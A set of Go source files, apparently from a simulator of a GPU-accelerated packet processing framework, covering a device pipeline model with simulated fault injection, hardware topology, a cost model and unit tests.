	ktime += simtime.Time(float64(simtime.Time(t.Kernels)*d.params.LaunchExtra) * d.kernelSlow)
	kstart := maxTime(t.H2DDone, d.kernelFree)
	t.KernelDone = kstart + ktime
	d.kernelFree = t.KernelDone

	// D2H return on the same copy engine.
	d2hTime := d.copyTime(t.D2HBytes)
	d2hStart, d2hEnd := d.allocCopy(t.KernelDone, d2hTime)
	t.Finish = d2hEnd

	d.stats.HostBusy += hostTime
	d.stats.CopyBusy += h2dTime + d2hTime //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	d.stats.KernelBusy += ktime           //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	if t.Finish > d.stats.LastFinish {
		d.stats.LastFinish = t.Finish //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	}
	if wait := hostStart - now; wait > d.stats.MaxQueueWait {
		d.stats.MaxQueueWait = wait
	}

	if d.Tracer != nil {
		// Phase events carry their scheduled end time in At and (for the
		// copy/kernel phases) the phase start in C, so the command-queue
		// pipeline can be reconstructed as slices.
		tid := int64(t.ID)
		wrk := int64(t.Worker)
		d.Tracer.Emit(now, trace.KindGPUSubmit, d.TraceActor, d.Name,
			tid, int64(t.NPkts), int64(d.Backlog()), wrk)
		d.Tracer.Emit(t.H2DDone, trace.KindGPUCopyH2D, d.TraceActor, d.Name,
			tid, int64(t.H2DBytes), int64(h2dStart), wrk)
		d.Tracer.Emit(kstart, trace.KindGPULaunch, d.TraceActor, d.Name,
			tid, int64(t.Kernels), 0, wrk)
		d.Tracer.Emit(t.KernelDone, trace.KindGPUKernel, d.TraceActor, d.Name,
			tid, int64(t.NPkts), int64(kstart), wrk)
		d.Tracer.Emit(t.Finish, trace.KindGPUCopyD2H, d.TraceActor, d.Name,
			tid, int64(t.D2HBytes), int64(d2hStart), wrk)
	}

	d.Checker.GPUTask(now, d.Name, t.ID, t.Submitted, t.HostDone, t.H2DDone, t.KernelDone, t.Finish)

	it := &inflight{task: t, hostT: hostTime, copyT: h2dTime + d2hTime, kernT: ktime}
	it.exec = d.eng.At(t.KernelDone, func() {
		if t.Execute != nil {
			t.Execute()
		}
	})
	it.comp = d.eng.At(t.Finish, func() {
		d.forget(it)
		if t.Complete != nil {
			t.Complete(t.Finish, t)
		}
	})
	d.inflight = append(d.inflight, it)
}

// allocCopy reserves dur of time on the copy engine starting no earlier
// than ready: in the earliest idle gap that fits, else at the frontier.
func (d *Device) allocCopy(ready, dur simtime.Time) (start, end simtime.Time) {
	if dur <= 0 {
		return ready, ready
	}
	for i := range d.copyGaps {
		g := d.copyGaps[i]
		s := maxTime(g.start, ready)
		if s+dur > g.end {
			continue
		}
		switch {
		case s == g.start && s+dur == g.end:
			d.copyGaps = append(d.copyGaps[:i], d.copyGaps[i+1:]...)
		case s == g.start:
			d.copyGaps[i].start = s + dur
		case s+dur == g.end:
			d.copyGaps[i].end = s
		default:
			d.copyGaps = append(d.copyGaps, copyGap{})
			copy(d.copyGaps[i+2:], d.copyGaps[i+1:])
			d.copyGaps[i] = copyGap{g.start, s}
			d.copyGaps[i+1] = copyGap{s + dur, g.end}
		}
		return s, s + dur
	}
	start = maxTime(ready, d.copyFrontier)
	if start > d.copyFrontier {
		d.copyGaps = append(d.copyGaps, copyGap{d.copyFrontier, start})
	}
	d.copyFrontier = start + dur
	return start, d.copyFrontier
}

// forget drops a completed or aborted task from the inflight list.
func (d *Device) forget(it *inflight) {
	for i, x := range d.inflight {
		if x == it {
			d.inflight = append(d.inflight[:i], d.inflight[i+1:]...)
			return
		}
	}
}

// failTask completes a task immediately as failed. Execute is not run; the
// submitting worker re-executes the aggregate on the CPU.
func (d *Device) failTask(t *Task) {
	t.Failed = true
	t.Finish = d.eng.Now()
	d.stats.FailedTasks++
	d.eng.After(0, func() {
		if t.Complete != nil {
			t.Complete(t.Finish, t)
		}
	})
}

// abortScheduled cancels every in-flight callback, refunds the accounted
// busy time and returns the aborted tasks in scheduling order.
func (d *Device) abortScheduled() []*Task {
	var tasks []*Task
	for _, it := range d.inflight {
		it.exec.Cancel()
		it.comp.Cancel()
		d.stats.HostBusy -= it.hostT
		d.stats.CopyBusy -= it.copyT
		d.stats.KernelBusy -= it.kernT
		tasks = append(tasks, it.task)
	}
	d.inflight = d.inflight[:0]
	return tasks
}

// resetTimelines voids every engine reservation (all stage frontiers move
// to the past, i.e. idle).
func (d *Device) resetTimelines() {
	d.hostFree, d.kernelFree, d.copyFrontier = 0, 0, 0
	d.copyGaps = nil
}

// Fail marks the device failed: in-flight and parked tasks complete
// immediately with Failed set, and so does every Submit until Recover.
func (d *Device) Fail() {
	if d.failed {
		return
	}
	d.failed = true
	d.hung = false
	tasks := append(d.abortScheduled(), d.pending...)
	d.pending = nil
	d.resetTimelines()
	for _, t := range tasks {
		d.failTask(t)
	}
}

// AbortAll evacuates the device for hot-unplug: every scheduled and parked
// task — including tasks parked by an active Hang — completes immediately
// with Failed set so the submitting workers rescue the aggregates on the
// CPU, and all engine reservations are voided. Unlike Fail it does NOT
// touch the health state: the fault plan's device automaton (failed / hung
// / slowed, and its pending Recover events) stays consistent, so unplugging
// a hung device cannot strand its pending tasks and a later plug sees the
// health the fault timeline says it should. Returns the number of tasks
// evacuated.
func (d *Device) AbortAll() int {
	tasks := append(d.abortScheduled(), d.pending...)
	d.pending = nil
	d.resetTimelines()
	for _, t := range tasks {
		d.failTask(t)
	}
	return len(tasks)
}

// Hang freezes the device: in-flight tasks are unscheduled and parked, and
// new submissions park too. Nothing completes (or fails) until Recover —
// the workers' completion timeout is what rescues the parked aggregates.
func (d *Device) Hang() {
	if d.failed || d.hung {
		return
	}
	d.hung = true
	d.pending = append(d.abortScheduled(), d.pending...)
	d.resetTimelines()
}

// SetSlowdown scales kernel and copy times for subsequently scheduled
// tasks; factors >= 1 slow the device, 1 is nominal, 0 leaves the current
// factor unchanged.
func (d *Device) SetSlowdown(kernelFactor, copyFactor float64) {
	if kernelFactor > 0 {
		d.kernelSlow = kernelFactor
	}
	if copyFactor > 0 {
		d.copySlow = copyFactor
	}
}

// Recover restores a failed, hung or slowed device to nominal and
// reschedules parked tasks in submission order.
func (d *Device) Recover() {
	d.failed, d.hung = false, false
	d.kernelSlow, d.copySlow = 1, 1
	pending := d.pending
	d.pending = nil
	for _, t := range pending {
		d.schedule(t)
	}
}

// Healthy reports whether the device is neither failed nor hung.
func (d *Device) Healthy() bool { return !d.failed && !d.hung }

// SetCorrupt starts a silent-corruption window: completing aggregates are
// corrupted with per-aggregate probability prob by XORing pattern into one
// byte of each live packet. r is the seeded per-event RNG stream, so the
// corruption pattern is part of the run identity.
func (d *Device) SetCorrupt(prob float64, pattern byte, r *rng.Rand) {
	d.corrupting = true
	d.corruptProb = prob
	d.flipPattern = pattern
	d.corruptRng = r
}

// ClearCorrupt ends the corruption window.
func (d *Device) ClearCorrupt() {
	d.corrupting = false
	d.corruptRng = nil
}

// Corrupting reports whether a corruption window is active.
func (d *Device) Corrupting() bool { return d.corrupting }

// CorruptCoin draws the per-aggregate corruption coin from the window's RNG
// stream. Only valid while Corrupting.
func (d *Device) CorruptCoin() bool { return d.corruptRng.Float64() < d.corruptProb }

// CorruptByte draws the byte offset to flip within a payload of n bytes and
// returns it with the window's XOR pattern. Only valid while Corrupting.
func (d *Device) CorruptByte(n int) (offset int, pattern byte) {
	return d.corruptRng.Intn(n), d.flipPattern
}

func (d *Device) copyTime(bytes int) simtime.Time {
	if bytes <= 0 {
		return 0
	}
	return simtime.Time(float64(bytes) / d.params.CopyBytesPerSec * float64(simtime.Second) * d.copySlow)
}

// Backlog returns how far the device's busiest engine is scheduled into
// the future — the queue-depth signal used for submission admission and by
// load balancers. A failed device reports zero (submissions fail fast); a
// hung device's backlog decays as the clock advances, so hang detection is
// the workers' completion timeout, not admission control.
func (d *Device) Backlog() simtime.Time {
	if d.failed {
		return 0
	}
	busiest := maxTime(d.kernelFree, d.copyFrontier)
	b := busiest - d.eng.Now()
	if b < 0 {
		return 0
	}
	return b
}

// Stats returns a snapshot of device statistics.
func (d *Device) Stats() Stats { return d.stats }

// Utilization returns the busy fractions of the kernel and copy engines
// over the given interval. With the single half-duplex copy engine, copyEng
// cannot exceed 1 over an interval covering the accounted activity.
func (d *Device) Utilization(interval simtime.Time) (kernel, copyEng float64) {
	if interval <= 0 {
		return 0, 0
	}
	return float64(d.stats.KernelBusy) / float64(interval),
		float64(d.stats.CopyBusy) / float64(interval)
}

func maxTime(a, b simtime.Time) simtime.Time {
	if a > b {
		return a
	}
	return b
}
