// Package gpu models the accelerator device and its device thread: command
// queues, host<->device copies, kernel launches and completion callbacks
// (paper §3.3, Figure 7).
//
// The device is a three-stage pipeline on the virtual clock:
//
//	host stage   — the device thread's per-task CPU work (ring dequeue,
//	               CUDA-runtime locking; grows with the number of workers,
//	               which is what bends GPU-only scaling, paper §4.3);
//	copy stage   — a single half-duplex copy engine moving H2D bytes before
//	               the kernel and D2H bytes after it;
//	kernel stage — the compute engine, busy for the task's kernel time.
//
// Stages overlap across tasks like CUDA streams do: while task N computes,
// task N+1 can copy. Throughput is set by the slowest stage; latency is the
// sum of stage times plus queueing. "Kernels" also carry a functional
// closure that really executes the element's device-side computation on the
// host, so offloaded packets are still actually processed.
package gpu

import (
	"fmt"

	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// Task is one aggregated offload task.
type Task struct {
	ID       uint64
	Worker   int // submitting worker (for completion routing)
	NPkts    int
	H2DBytes int
	D2HBytes int
	// KernelTime is the unscaled total kernel execution time (the offload
	// engine sums the chain's kernel costs).
	KernelTime simtime.Time
	// Kernels is the number of kernel launches in the chain (each pays the
	// device's LaunchExtra).
	Kernels int

	// Execute performs the functional device-side computation. It runs at
	// kernel completion time.
	Execute func()
	// Complete is invoked when the task fully finishes (after D2H).
	Complete func(finish simtime.Time, t *Task)

	// Timing breakdown, filled by the device.
	Submitted  simtime.Time
	HostDone   simtime.Time
	H2DDone    simtime.Time
	KernelDone simtime.Time
	Finish     simtime.Time
}

// Stats aggregates device activity.
type Stats struct {
	Tasks        uint64
	Packets      uint64
	H2DBytes     uint64
	D2HBytes     uint64
	KernelBusy   simtime.Time
	CopyBusy     simtime.Time
	HostBusy     simtime.Time
	LastFinish   simtime.Time
	MaxQueueWait simtime.Time
}

// Device is one simulated accelerator plus its device thread.
type Device struct {
	Name string
	Kind sysinfo.DeviceKind

	eng    *simtime.Engine
	params sysinfo.DeviceParams
	cm     *sysinfo.CostModel
	// hostFreqHz is the clock of the core running the device thread.
	hostFreqHz float64
	// nworkers scales the per-task host cost (CUDA-runtime lock contention).
	nworkers int

	hostFree   simtime.Time
	h2dFree    simtime.Time
	d2hFree    simtime.Time
	kernelFree simtime.Time

	nextID uint64
	stats  Stats

	// Tracer, when non-nil, receives one event per command-queue phase
	// (submit, H2D copy, launch, kernel, D2H return). TraceActor identifies
	// the device in multi-device traces.
	Tracer     *trace.Tracer
	TraceActor int32
}

// New creates a device on the given engine.
func New(name string, kind sysinfo.DeviceKind, eng *simtime.Engine, cm *sysinfo.CostModel, hostFreqHz float64, nworkers int) (*Device, error) {
	params, err := cm.DeviceParamsOf(kind)
	if err != nil {
		return nil, err
	}
	if nworkers < 1 {
		return nil, fmt.Errorf("gpu: device %s needs at least one worker, got %d", name, nworkers)
	}
	return &Device{
		Name: name, Kind: kind,
		eng: eng, params: params, cm: cm,
		hostFreqHz: hostFreqHz, nworkers: nworkers,
	}, nil
}

// Submit enqueues a task at the current virtual time. The device computes
// the full pipeline schedule immediately (all stage timelines are known)
// and schedules Execute/Complete callbacks.
func (d *Device) Submit(t *Task) {
	now := d.eng.Now()
	d.nextID++
	t.ID = d.nextID
	t.Submitted = now

	// Host stage: device-thread CPU handling, serialised on its core.
	hostCycles := d.cm.DeviceTaskFixed + d.cm.DeviceTaskPerWorker*simtime.Cycles(d.nworkers)
	hostTime := simtime.CyclesToTime(hostCycles, d.hostFreqHz)
	hostStart := maxTime(now, d.hostFree)
	t.HostDone = hostStart + hostTime
	d.hostFree = t.HostDone
	d.stats.HostBusy += hostTime

	// H2D copy on the host-to-device DMA engine (PCIe is full duplex, so
	// D2H transfers of earlier tasks overlap).
	h2dTime := d.copyTime(t.H2DBytes)
	h2dStart := maxTime(t.HostDone, d.h2dFree)
	t.H2DDone = h2dStart + h2dTime
	d.h2dFree = t.H2DDone
	d.stats.CopyBusy += h2dTime

	// Kernel stage.
	ktime := simtime.Time(float64(t.KernelTime) * d.params.KernelScale)
	ktime += simtime.Time(t.Kernels) * d.params.LaunchExtra
	kstart := maxTime(t.H2DDone, d.kernelFree)
	t.KernelDone = kstart + ktime
	d.kernelFree = t.KernelDone
	d.stats.KernelBusy += ktime

	// D2H copy on the device-to-host DMA engine.
	d2hTime := d.copyTime(t.D2HBytes)
	d2hStart := maxTime(t.KernelDone, d.d2hFree)
	t.Finish = d2hStart + d2hTime
	d.d2hFree = t.Finish
	d.stats.CopyBusy += d2hTime

	d.stats.Tasks++
	d.stats.Packets += uint64(t.NPkts)
	d.stats.H2DBytes += uint64(t.H2DBytes)
	d.stats.D2HBytes += uint64(t.D2HBytes)
	d.stats.LastFinish = t.Finish
	if wait := hostStart - now; wait > d.stats.MaxQueueWait {
		d.stats.MaxQueueWait = wait
	}

	if d.Tracer != nil {
		// Phase events carry their scheduled end time in At and (for the
		// copy/kernel phases) the phase start in C, so the command-queue
		// pipeline can be reconstructed as slices.
		tid := int64(t.ID)
		wrk := int64(t.Worker)
		d.Tracer.Emit(now, trace.KindGPUSubmit, d.TraceActor, d.Name,
			tid, int64(t.NPkts), int64(d.Backlog()), wrk)
		d.Tracer.Emit(t.H2DDone, trace.KindGPUCopyH2D, d.TraceActor, d.Name,
			tid, int64(t.H2DBytes), int64(h2dStart), wrk)
		d.Tracer.Emit(kstart, trace.KindGPULaunch, d.TraceActor, d.Name,
			tid, int64(t.Kernels), 0, wrk)
		d.Tracer.Emit(t.KernelDone, trace.KindGPUKernel, d.TraceActor, d.Name,
			tid, int64(t.NPkts), int64(kstart), wrk)
		d.Tracer.Emit(t.Finish, trace.KindGPUCopyD2H, d.TraceActor, d.Name,
			tid, int64(t.D2HBytes), int64(d2hStart), wrk)
	}

	d.eng.At(t.KernelDone, func() {
		if t.Execute != nil {
			t.Execute()
		}
	})
	d.eng.At(t.Finish, func() {
		if t.Complete != nil {
			t.Complete(t.Finish, t)
		}
	})
}

func (d *Device) copyTime(bytes int) simtime.Time {
	if bytes <= 0 {
		return 0
	}
	return simtime.Time(float64(bytes) / d.params.CopyBytesPerSec * float64(simtime.Second))
}

// Backlog returns how far the device's busiest engine is scheduled into
// the future — the queue-depth signal used for submission admission and by
// load balancers.
func (d *Device) Backlog() simtime.Time {
	busiest := d.kernelFree
	if d.h2dFree > busiest {
		busiest = d.h2dFree
	}
	if d.d2hFree > busiest {
		busiest = d.d2hFree
	}
	b := busiest - d.eng.Now()
	if b < 0 {
		return 0
	}
	return b
}

// Stats returns a snapshot of device statistics.
func (d *Device) Stats() Stats { return d.stats }

// Utilization returns the busy fractions of the kernel and copy engines
// over the given interval.
func (d *Device) Utilization(interval simtime.Time) (kernel, copyEng float64) {
	if interval <= 0 {
		return 0, 0
	}
	return float64(d.stats.KernelBusy) / float64(interval),
		float64(d.stats.CopyBusy) / float64(interval)
}

func maxTime(a, b simtime.Time) simtime.Time {
	if a > b {
		return a
	}
	return b
}
