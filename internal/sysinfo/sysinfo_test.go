package sysinfo

import (
	"math"
	"testing"

	"nba/internal/simtime"
)

func TestDefaultTopologyMatchesTable3(t *testing.T) {
	top := DefaultTopology()
	if err := top.Validate(); err != nil {
		t.Fatalf("default topology invalid: %v", err)
	}
	if top.Sockets != 2 || top.CoresPerSocket != 8 {
		t.Errorf("got %d sockets x %d cores, want 2x8", top.Sockets, top.CoresPerSocket)
	}
	if len(top.Ports) != 8 {
		t.Errorf("got %d ports, want 8", len(top.Ports))
	}
	if len(top.Devices) != 2 {
		t.Errorf("got %d devices, want 2", len(top.Devices))
	}
	var total float64
	for _, p := range top.Ports {
		total += p.LineRateBps
	}
	if total != 80e9 {
		t.Errorf("aggregate line rate = %g, want 80e9", total)
	}
	if got := top.MaxWorkersPerSocket(); got != 7 {
		t.Errorf("MaxWorkersPerSocket = %d, want 7 (one core reserved for device thread)", got)
	}
}

func TestPortAndDeviceLocality(t *testing.T) {
	top := DefaultTopology()
	if got := top.PortsOnSocket(0); len(got) != 4 {
		t.Errorf("socket 0 ports = %v, want 4 ports", got)
	}
	if got := top.PortsOnSocket(1); len(got) != 4 {
		t.Errorf("socket 1 ports = %v, want 4 ports", got)
	}
	for s := 0; s < 2; s++ {
		if got := top.DevicesOnSocket(s); len(got) != 1 {
			t.Errorf("socket %d devices = %v, want 1", s, got)
		}
	}
}

func TestTopologyValidateRejectsBadConfigs(t *testing.T) {
	cases := []struct {
		name string
		mut  func(*Topology)
	}{
		{"no sockets", func(t *Topology) { t.Sockets = 0 }},
		{"one core", func(t *Topology) { t.CoresPerSocket = 1 }},
		{"zero freq", func(t *Topology) { t.CoreFreqHz = 0 }},
		{"no ports", func(t *Topology) { t.Ports = nil }},
		{"port bad socket", func(t *Topology) { t.Ports[0].Socket = 9 }},
		{"port zero rate", func(t *Topology) { t.Ports[0].LineRateBps = 0 }},
		{"device bad socket", func(t *Topology) { t.Devices[0].Socket = -1 }},
		{"zero rxq", func(t *Topology) { t.RxQueueCapacity = 0 }},
	}
	for _, c := range cases {
		top := DefaultTopology()
		c.mut(top)
		if err := top.Validate(); err == nil {
			t.Errorf("%s: Validate accepted invalid topology", c.name)
		}
	}
}

func TestWireMath(t *testing.T) {
	// A 64 B frame occupies 84 B on the wire; 10 GbE carries 14.88 Mpps.
	pps := LineRatePPS(10e9, 64)
	if math.Abs(pps-14_880_952.38) > 1 {
		t.Errorf("64B line rate = %v pps, want ~14.88M", pps)
	}
	if WireBits(64) != 672 {
		t.Errorf("WireBits(64) = %v, want 672", WireBits(64))
	}
	// 1500 B frames: 822 kpps.
	pps = LineRatePPS(10e9, 1500)
	if math.Abs(pps-822_368.4) > 1 {
		t.Errorf("1500B line rate = %v pps, want ~822k", pps)
	}
}

func TestElementCost(t *testing.T) {
	c := ElementCost{Fixed: 100, PerByte: 2.5}
	if got := c.Cycles(64); got != 260 {
		t.Errorf("Cycles(64) = %d, want 260", got)
	}
	if got := c.Cycles(0); got != 100 {
		t.Errorf("Cycles(0) = %d, want 100", got)
	}
}

func TestKernelCost(t *testing.T) {
	k := KernelCost{
		Launch:    10 * simtime.Microsecond,
		PerPacket: 50 * simtime.Nanosecond,
		PerByte:   1000, // 1 ns per byte in ps
	}
	// 100 packets, 6400 bytes: 10us + 5us + 6.4us = 21.4us
	if got := k.Duration(100, 6400); got != 21400*simtime.Nanosecond {
		t.Errorf("Duration = %v, want 21.4us", got)
	}
}

func TestDefaultCostModelValid(t *testing.T) {
	m := Default()
	if err := m.Validate(); err != nil {
		t.Fatalf("default cost model invalid: %v", err)
	}
	// Every sample-app element must have an explicit cost entry.
	for _, class := range []string{
		"L2Forward", "CheckIPHeader", "IPLookup", "DecIPTTL",
		"CheckIP6Header", "LookupIP6Route", "DecIP6HLIM",
		"IPsecESPencap", "IPsecAES", "IPsecHMAC",
		"IDSMatchAC", "IDSMatchRE", "NoOp",
	} {
		if _, ok := m.Elements[class]; !ok {
			t.Errorf("no element cost for %q", class)
		}
	}
	// Every offloadable class must have a kernel.
	for _, class := range []string{
		"IPLookup", "LookupIP6Route", "IPsecAES", "IPsecHMAC", "IDSMatchAC", "IDSMatchRE",
	} {
		if _, ok := m.Kernels[class]; !ok {
			t.Errorf("no kernel cost for %q", class)
		}
	}
}

func TestCostModelFallbacks(t *testing.T) {
	m := Default()
	if got := m.ElementCostOf("NoSuchElement"); got != m.DefaultElementCost {
		t.Errorf("unknown element cost = %+v, want default", got)
	}
	k := m.KernelCostOf("NoSuchKernel")
	if k.Launch <= 0 || k.PerPacket <= 0 {
		t.Errorf("fallback kernel not sane: %+v", k)
	}
	if _, err := m.DeviceParamsOf(DeviceGPU); err != nil {
		t.Errorf("no GPU params: %v", err)
	}
	if _, err := m.DeviceParamsOf(DeviceKind(99)); err == nil {
		t.Error("DeviceParamsOf accepted unknown kind")
	}
}

func TestIPsecKernelMatchesPaperProfile(t *testing.T) {
	// Paper §4.6: the profiled IPsec GPU kernel takes ~140 us for an
	// aggregated task (100 us HMAC-SHA1 + 40 us AES-128CTR). Our combined
	// kernel time for a 2048-packet task must land near that.
	m := Default()
	// A 64 B frame becomes a 122 B ESP frame; each kernel touches the
	// 108-byte post-Ethernet region.
	bytes := 2048 * 108
	aes := m.KernelCostOf("IPsecAES").Duration(2048, bytes)
	hmac := m.KernelCostOf("IPsecHMAC").Duration(2048, bytes)
	total := (aes + hmac).Micros()
	if total < 120 || total > 220 {
		t.Errorf("IPsec kernel for 2048-pkt 64B task = %.1f us, want ~140-190 us", total)
	}
}

func TestDeviceKindString(t *testing.T) {
	if DeviceGPU.String() != "gpu" || DevicePhi.String() != "phi" {
		t.Error("DeviceKind strings wrong")
	}
	if DeviceKind(42).String() == "" {
		t.Error("unknown kind produced empty string")
	}
}
