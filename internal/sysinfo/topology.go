// Package sysinfo describes the simulated hardware platform: CPU sockets,
// cores, NUMA nodes, NICs and accelerator devices, together with the
// calibrated cost model that stands in for real silicon.
//
// The default topology reproduces the paper's Table 3 machine: dual Intel
// Xeon E5-2670 (8 cores each, 2.6 GHz), four dual-port 10 GbE NICs (eight
// ports total, four per socket) and two desktop-class GPUs (one per socket).
package sysinfo

import "fmt"

// DeviceKind identifies a class of accelerator in the simulated platform.
type DeviceKind int

const (
	// DeviceGPU models a discrete CUDA-style GPU (the paper's GTX 680).
	DeviceGPU DeviceKind = iota
	// DevicePhi models a Xeon-Phi-like many-core coprocessor behind the
	// same OpenCL-ish shim (paper §7, "extension to other accelerators").
	DevicePhi
)

func (k DeviceKind) String() string {
	switch k {
	case DeviceGPU:
		return "gpu"
	case DevicePhi:
		return "phi"
	default:
		return fmt.Sprintf("device(%d)", int(k))
	}
}

// Device is one accelerator attached to a socket.
type Device struct {
	Kind   DeviceKind
	Name   string
	Socket int
	// Cores is the number of parallel processing cores (informational;
	// the performance model lives in CostModel / gpu.Params).
	Cores int
}

// Port is one NIC port.
type Port struct {
	ID     int
	Socket int
	// LineRateBps is the physical line rate in bits per second on the wire
	// (framing overhead included when accounting throughput).
	LineRateBps float64
}

// Topology is the simulated machine.
type Topology struct {
	Sockets        int
	CoresPerSocket int
	CoreFreqHz     float64
	Ports          []Port
	Devices        []Device
	// RxQueueCapacity is the per-HW-RX-queue capacity in packets.
	RxQueueCapacity int
}

// DefaultTopology returns the paper's Table 3 machine: 2x8 cores @2.6 GHz,
// 8x10GbE (4 per socket), one GPU per socket.
func DefaultTopology() *Topology {
	t := &Topology{
		Sockets:         2,
		CoresPerSocket:  8,
		CoreFreqHz:      2.6e9,
		RxQueueCapacity: 4096,
	}
	for i := 0; i < 8; i++ {
		t.Ports = append(t.Ports, Port{ID: i, Socket: i / 4, LineRateBps: 10e9})
	}
	for s := 0; s < 2; s++ {
		t.Devices = append(t.Devices, Device{
			Kind: DeviceGPU, Name: fmt.Sprintf("gpu%d", s), Socket: s, Cores: 1536,
		})
	}
	return t
}

// SingleSocketTopology returns a one-socket machine with the given core and
// port counts, useful for small tests and the Figure 6 example mapping.
func SingleSocketTopology(cores, ports int) *Topology {
	t := &Topology{
		Sockets:         1,
		CoresPerSocket:  cores,
		CoreFreqHz:      2.6e9,
		RxQueueCapacity: 4096,
	}
	for i := 0; i < ports; i++ {
		t.Ports = append(t.Ports, Port{ID: i, Socket: 0, LineRateBps: 10e9})
	}
	t.Devices = append(t.Devices, Device{Kind: DeviceGPU, Name: "gpu0", Socket: 0, Cores: 1536})
	return t
}

// Validate checks internal consistency.
func (t *Topology) Validate() error {
	if t.Sockets <= 0 {
		return fmt.Errorf("sysinfo: topology needs at least one socket, have %d", t.Sockets)
	}
	if t.CoresPerSocket < 2 {
		return fmt.Errorf("sysinfo: need >=2 cores per socket (workers + device thread), have %d", t.CoresPerSocket)
	}
	if t.CoreFreqHz <= 0 {
		return fmt.Errorf("sysinfo: core frequency must be positive, have %g", t.CoreFreqHz)
	}
	if len(t.Ports) == 0 {
		return fmt.Errorf("sysinfo: topology has no NIC ports")
	}
	for _, p := range t.Ports {
		if p.Socket < 0 || p.Socket >= t.Sockets {
			return fmt.Errorf("sysinfo: port %d on invalid socket %d", p.ID, p.Socket)
		}
		if p.LineRateBps <= 0 {
			return fmt.Errorf("sysinfo: port %d has non-positive line rate", p.ID)
		}
	}
	for _, d := range t.Devices {
		if d.Socket < 0 || d.Socket >= t.Sockets {
			return fmt.Errorf("sysinfo: device %s on invalid socket %d", d.Name, d.Socket)
		}
	}
	if t.RxQueueCapacity <= 0 {
		return fmt.Errorf("sysinfo: RX queue capacity must be positive, have %d", t.RxQueueCapacity)
	}
	return nil
}

// PortsOnSocket returns the IDs of ports attached to the given socket.
func (t *Topology) PortsOnSocket(s int) []int {
	var ids []int
	for _, p := range t.Ports {
		if p.Socket == s {
			ids = append(ids, p.ID)
		}
	}
	return ids
}

// DevicesOnSocket returns indices into Devices for the given socket.
func (t *Topology) DevicesOnSocket(s int) []int {
	var ids []int
	for i, d := range t.Devices {
		if d.Socket == s {
			ids = append(ids, i)
		}
	}
	return ids
}

// MaxWorkersPerSocket is the number of cores available for worker threads
// after dedicating one core per socket to the device thread (paper §3.2,
// Figure 6: "the last CPU core is dedicated for the device thread").
func (t *Topology) MaxWorkersPerSocket() int { return t.CoresPerSocket - 1 }

// WireOverheadBytes is the per-frame Ethernet overhead on the wire that is
// not part of the frame buffer: 7 B preamble + 1 B SFD + 12 B inter-frame
// gap. Throughput figures in the paper (and here) are wire-rate Gbps, so a
// 64 B frame at 10 GbE line rate is 14.88 Mpps.
const WireOverheadBytes = 20

// WireBits returns the number of bits one frame of the given length occupies
// on the wire, including framing overhead.
func WireBits(frameLen int) float64 { return float64(frameLen+WireOverheadBytes) * 8 }

// LineRatePPS returns the packet rate that saturates bps for frames of the
// given length.
func LineRatePPS(bps float64, frameLen int) float64 { return bps / WireBits(frameLen) }
