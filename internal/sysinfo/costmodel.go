package sysinfo

import (
	"fmt"
	"sort"

	"nba/internal/simtime"
)

// ElementCost is the CPU-side execution cost of one element, charged per
// packet: Fixed + PerByte*frameLen cycles.
type ElementCost struct {
	Fixed   simtime.Cycles
	PerByte float64
}

// Cycles returns the cost in cycles for a frame of the given length.
func (c ElementCost) Cycles(frameLen int) simtime.Cycles {
	return c.Fixed + simtime.Cycles(c.PerByte*float64(frameLen))
}

// KernelCost is the accelerator-side execution cost of one offloaded task:
// Launch + PerPacket*npkts + PerByte*payloadBytes.
type KernelCost struct {
	Launch    simtime.Time
	PerPacket simtime.Time
	PerByte   float64 // picoseconds per byte
}

// Duration returns the kernel execution time for a task covering npkts
// packets and bytes payload bytes.
func (k KernelCost) Duration(npkts, bytes int) simtime.Time {
	return k.Launch + simtime.Time(npkts)*k.PerPacket + simtime.Time(k.PerByte*float64(bytes))
}

// DeviceParams models one accelerator device class.
type DeviceParams struct {
	// CopyBytesPerSec is the effective host<->device streaming bandwidth of
	// the single half-duplex copy engine, including descriptor overhead and
	// pinned-buffer bookkeeping. Calibrated (not a PCIe spec number) so that
	// the paper's measured IPsec/IDS GPU curves reproduce: IPsec moves
	// payload both directions and tops out near 18 Gbps, IDS moves payload
	// host-to-device only and tops out near 35 Gbps (paper §4.4, §4.6).
	CopyBytesPerSec float64
	// KernelScale scales every kernel's Duration; 1.0 for the GPU. The
	// Phi-like device uses a different scale (paper §7 extension).
	KernelScale float64
	// LaunchExtra is added to every kernel launch (command-queue overhead).
	LaunchExtra simtime.Time
}

// CostModel holds every calibration constant of the simulation. Each value
// is annotated with the paper observation it reproduces; EXPERIMENTS.md
// records how close the reproduction lands.
type CostModel struct {
	// ---- Packet IO (DPDK substitute) ----

	// RxBurstFixed is charged once per RX poll of one queue; RxPerPacket per
	// received packet. Together with TxBatchFixed/TxPerPacket these model
	// DPDK's amortised per-batch IO cost (paper §2: "batch processing for
	// packet IO ... is the intrinsic part").
	RxBurstFixed   simtime.Cycles
	RxPerPacket    simtime.Cycles
	TxBatchFixed   simtime.Cycles
	TxPerPacket    simtime.Cycles
	CompletionPoll simtime.Cycles // per IO-loop check of the offload completion queue

	// IdlePoll is how long a worker waits before re-polling when an IO loop
	// iteration found no work at all.
	IdlePoll simtime.Time
	// MaxIterTime bounds one IO-loop iteration in virtual time: the worker
	// stops pulling more RX bursts once it has this much work queued. Keeps
	// the loop responsive under very expensive per-packet processing.
	MaxIterTime simtime.Time

	// ---- Batch-oriented modular pipeline (paper §3.2) ----

	// BatchAlloc/BatchFree: allocating and releasing a packet-batch object
	// from the batch pool. The dominant term of the split penalty in Fig. 1
	// ("the primary overhead (25%) comes from memory management").
	BatchAlloc simtime.Cycles
	BatchFree  simtime.Cycles
	// BatchInitPerPacket: wrapping one packet pointer + result slot +
	// annotation into a batch.
	BatchInitPerPacket simtime.Cycles
	// ElementDispatch is the per-element, per-batch dispatch overhead
	// (virtual call, prefetch, branch setup). Paying this per packet instead
	// of per batch is what computation batching removes (Fig. 9).
	ElementDispatch simtime.Cycles
	// GraphTraverse is charged per edge traversal of one batch.
	GraphTraverse simtime.Cycles
	// SplitPerPacket: moving one packet pointer+annotations into a split
	// batch (Fig. 1 "splitting into new batches").
	SplitPerPacket simtime.Cycles
	// MaskPerPacket: masking one minority packet in a reused batch
	// (Fig. 10 "masking branched packets").
	MaskPerPacket simtime.Cycles
	// BranchCheck: per-batch bookkeeping of the branch predictor.
	BranchCheck simtime.Cycles

